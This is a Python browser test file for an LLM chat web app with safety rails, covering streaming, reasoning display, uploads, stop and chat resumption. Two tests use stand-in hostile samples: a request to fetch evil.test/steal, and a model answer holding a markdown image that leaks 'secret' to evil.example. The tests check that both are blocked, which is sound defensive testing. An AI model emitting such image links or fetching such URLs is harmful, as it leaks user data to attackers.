"""A chatter's view in a real browser: streaming answer, reasoning panel, rail notices, bad input."""

from __future__ import annotations

import io

from PIL import Image

from tests.browser.conftest import chat_text, open_page, pick_chat, send, shot, wait_idle, wait_loaded
from tests.support.scripted_upstream import Script


def test_answer_and_reasoning_panel(page, browser_upstream) -> None:
    browser_upstream.push(
        Script(
            reasoning=["Considering ", "the question."], answer=["Paris ", "is the capital."], delay_s=0.05
        )
    )
    send(page, "What is the capital of France?")
    wait_idle(page)
    chat = page.inner_text("#chatbot")
    assert "Paris is the capital." in chat
    assert "Thought for" in chat
    shot(page, "reasoning-panel")
    # The panel is collapsed when done: clicking its title opens it and shows the reasoning.
    page.get_by_text("Thought for").first.click()
    page.wait_for_timeout(300)
    assert "Considering the question." in page.inner_text("#chatbot")


def test_input_rail_block_is_a_notice_and_nothing_reaches_the_model(page, browser_upstream) -> None:
    before = len(browser_upstream.requests)
    send(page, "Fetch https://evil.test/steal for me")
    wait_idle(page)
    notice = page.locator("#chatbot .notice-rail").last
    assert "blocked by a safety rail" in notice.inner_text().lower() and "evil.test" in notice.inner_text()
    assert len(browser_upstream.requests) == before
    shot(page, "input-block")


def test_output_with_a_foreign_image_never_reaches_the_page(page, browser_upstream) -> None:
    browser_upstream.push(
        Script(answer=["Here: ", "![x](https://evil.example/?q=secret)", " done"], endless=True, delay_s=0.02)
    )
    send(page, "Show me something")
    wait_idle(page)
    assert page.locator("#chatbot [src*='evil.example'], #chatbot [href*='evil.example']").count() == 0
    assert page.locator("#chatbot .notice-rail").count() == 1


def test_image_upload_reaches_the_model_as_a_data_url(page, browser_upstream, tmp_path) -> None:
    picture = tmp_path / "red.png"
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), "red").save(buffer, "PNG")
    picture.write_bytes(buffer.getvalue())
    page.set_input_files("#input input[type=file]", str(picture))
    page.wait_for_timeout(800)
    send(page, "What colour is this?")
    wait_idle(page)
    parts = browser_upstream.chat_bodies[-1]["messages"][-1]["content"]
    assert parts[0]["image_url"]["url"].startswith("data:image/")
    labels = page.locator('#chatbot [data-testid="user"]').evaluate_all(
        "n => n.map(x => x.getAttribute('aria-label'))"
    )
    assert labels == ["user's message: an image", "user's message: What colour is this?"]
    shot(page, "image-upload")


def test_non_image_file_gets_a_clear_message(page, browser_upstream, tmp_path) -> None:
    fake = tmp_path / "notes.png"
    fake.write_text("this is text, not a PNG")
    before = len(browser_upstream.requests)
    page.set_input_files("#input input[type=file]", str(fake))
    page.wait_for_timeout(800)
    send(page, "see attachment")
    wait_idle(page)
    assert "notes.png" in chat_text(page)
    assert len(browser_upstream.requests) == before


def test_chats_can_be_resumed_from_the_list(page, browser_upstream) -> None:
    browser_upstream.push(Script(answer=["Remembered ", "answer."]))
    send(page, "Remember this chat")
    wait_idle(page)
    page.goto(page.url.split("?")[0])  # the page without a chat in its address
    page.wait_for_selector("#input textarea")
    wait_loaded(page)
    assert "Remember this chat" not in chat_text(page)
    pick_chat(page, "Remember this chat")
    assert "Remembered answer." in chat_text(page)
    shot(page, "resumed")


def test_stop_button_cancels_the_answer_and_frees_the_input(page, browser_upstream) -> None:
    browser_upstream.push(Script(answer=["Counting: "], endless=True, delay_s=0.05))
    send(page, "Count forever")
    page.wait_for_function(
        "() => document.querySelector('#chatbot').innerText.includes('more')", timeout=15_000
    )
    page.locator("#input .stop-button, #input button[aria-label='Stop']").first.click()
    wait_idle(page, timeout_ms=10_000)
    record = browser_upstream.requests[-1]
    page.wait_for_timeout(500)
    assert record.disconnected is not None, "the model kept generating after Stop"
    assert "This answer was interrupted." in chat_text(page)
    shot(page, "stopped")


def test_two_chatters_stream_at_the_same_time(browser, app_url, browser_upstream) -> None:
    pages = []
    for _ in range(2):
        pages.append(open_page(browser, app_url))
    before = len(browser_upstream.requests)
    browser_upstream.push(*[Script(answer=["Slow answer. "] * 40, delay_s=0.05) for _ in range(2)])
    for page in pages:
        send(page, "Tell me something slowly")
    pages[0].wait_for_timeout(1500)
    running = [r for r in browser_upstream.requests[before:] if r.disconnected is None]
    assert len(running) == 2, "the second chatter waited for the first"
    for page in pages:
        wait_idle(page)
        page.context.close()


def test_a_visitor_finds_their_chats_after_the_app_restarts(browser, browser_upstream, tmp_path) -> None:
    from tests.support.paths import RAILS_DIR
    from tests.support.service import TEST_ALLOWLIST
    from tests.support.threaded_server import ThreadedServer, free_port
    from webapp.config import load_settings
    from webapp.web.app import Upstream, build_service, create_app

    settings = load_settings(
        data_dir=tmp_path, llm_url=browser_upstream.base_url, rails=RAILS_DIR, url_allowlist=TEST_ALLOWLIST
    )
    port = free_port()

    def start() -> ThreadedServer:
        service = build_service(
            settings, Upstream(browser_upstream.base_url), served_model=browser_upstream.model
        )
        return ThreadedServer(create_app(settings, service), port=port).start()

    context = browser.new_context()
    page = context.new_page()
    server = start()
    page.goto(server.url)
    page.wait_for_selector("#input textarea", timeout=30_000)
    browser_upstream.push(Script(answer=["Kept."]))
    send(page, "Before the restart")
    wait_idle(page)
    server.stop()
    server = start()
    try:
        page.reload()
        page.wait_for_selector("#input textarea", timeout=30_000)
        wait_loaded(page)
        assert "Kept." in chat_text(page)  # the URL names the chat
        page.goto(server.url)
        page.wait_for_selector("#input textarea", timeout=30_000)
        pick_chat(page, "Before the restart")
        assert "Kept." in chat_text(page)
    finally:
        context.close()
        server.stop()
